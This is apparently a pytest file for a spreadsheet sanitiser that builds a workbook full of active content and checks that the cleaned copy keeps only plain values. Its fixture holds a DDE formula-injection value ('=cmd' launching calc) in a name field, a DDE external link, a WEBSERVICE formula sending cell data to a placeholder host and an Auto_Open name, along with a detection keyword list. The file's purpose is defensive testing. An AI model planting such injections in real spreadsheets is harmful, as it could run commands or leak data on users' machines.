from pathlib import Path

import xlsxwriter  # type: ignore[import-untyped] # it has no types
from openpyxl import load_workbook  # type: ignore[import-untyped] # it has no types
from python_calamine import CalamineWorkbook

from credential.schema import RecordSchema
from intake.annotated import CopyKind
from intake.headings import RESULT_HEADING
from tests.intake.copies import Make, judge, text_of_parts, values
from tests.intake.samples import review_row, rezip, sheet_of


def active_workbook(path: Path) -> Path:
    """A workbook with everything in it that acts, links or hides."""
    with xlsxwriter.Workbook(path) as book:
        page = book.add_worksheet("表")
        for number, row in enumerate(sheet_of([review_row(1), review_row(3, 姓名="=cmd|' /C calc'!A0", 身份证号="1")])):
            for at, cell in enumerate(row):
                page.write_string(number, at, cell)
        page.write_formula("A2", "='[other.xlsx]S'!A1", None, "张三")
        page.write_formula("M2", '=WEBSERVICE("http://example.invalid/"&A2)', None, "x")
        page.write_array_formula("N2:N3", "{=A2:A3}", None, "y")
        page.write_url("O2", "http://example.invalid/", None, "点此")
        page.write_url("O3", r"external:\\example.invalid\share\a.xlsx", None, "共享")
        page.data_validation("E2:E9", {"validate": "list", "source": "=名单!$A$1:$A$3"})
        page.conditional_format("A1:K9", {"type": "formula", "criteria": "=$A1=1", "format": None})
        page.insert_textbox("P2", "=1+1", {"url": "http://example.invalid/"})
        hidden = book.add_worksheet("名单")
        hidden.write_string("A1", "暗藏")
        hidden.write_formula("A2", "=1+1", None, 2)
        hidden.very_hidden()
        book.define_name("Auto_Open", "=表!$A$1")
        chart = book.add_chart({"type": "bar"})
        chart.add_series({"values": "=表!$A$1:$A$3"})
        page.insert_chart("Q2", chart)
        page.set_header("&L姓名&R&D")
    link = b'<?xml version="1.0"?><externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'
    return rezip(path, {"xl/externalLinks/externalLink1.xml": link, "xl/connections.xml": b"<connections/>"})


ACTIVE = (
    "<f>", "<f ", "ddeLink", "externalLink", "hyperlink ", "dataValidation", "conditionalFormatting", "WEBSERVICE",
    "Auto_Open", "connections", "example.invalid", "TargetMode", "<c:chart", "veryHidden",
)  # fmt: skip


def test_nothing_active_survives(tmp_path: Path, schema: RecordSchema) -> None:
    source = active_workbook(tmp_path / "active.xlsx")
    _, to, made = judge(source, schema)
    inside = text_of_parts(to)
    read = load_workbook(to)

    assert made.kind is CopyKind.COPY
    assert values(to, without=RESULT_HEADING) == values(source)
    for word in ACTIVE:
        assert word not in inside, word
    assert read["名单"].sheet_state == "hidden"
    assert read["表"]["A3"].value == "=cmd|' /C calc'!A0"
    assert (read["表"]["A3"].data_type, read["表"]["A3"].quotePrefix) == ("s", True)
    assert read.active.title == "表"
    assert [page.sheet_view.tabSelected for page in read.worksheets] == [True, False]


def test_what_is_left_out_is_said(tmp_path: Path, schema: RecordSchema) -> None:
    _, _, made = judge(active_workbook(tmp_path / "active.xlsx"), schema)

    for zh, en in (
        ("公式", "formulas"),
        ("超链接", "hyperlinks"),
        ("数据验证", "data validations"),
        ("条件格式", "conditional formats"),
        ("图片和图表", "pictures and charts"),
        ("外部链接", "links to other workbooks"),
        ("名称", "defined names"),
    ):
        assert zh in made.notes[0].zh
        assert en in made.notes[0].en


def test_every_text_of_ours_is_text(make_xlsx: Make, schema: RecordSchema) -> None:
    file = make_xlsx({"表": sheet_of([review_row(1, 姓名="=HYPERLINK(1)", 级别="＝1+1")])})
    for source in (file, _as_csv(file)):
        _, to, _ = judge(source, schema, name=f"{source.suffix[1:]}.copy.xlsx")
        for page in load_workbook(to).worksheets:
            assert all(cell.data_type in {"s", "n"} for row in page.iter_rows() for cell in row)


def _as_csv(file: Path) -> Path:
    lines = [",".join(map(str, row)) for row in CalamineWorkbook.from_path(file).get_sheet_by_index(0).to_python()]
    path = file.with_suffix(".csv")
    path.write_text("\n".join(lines), encoding="utf-8")
    return path
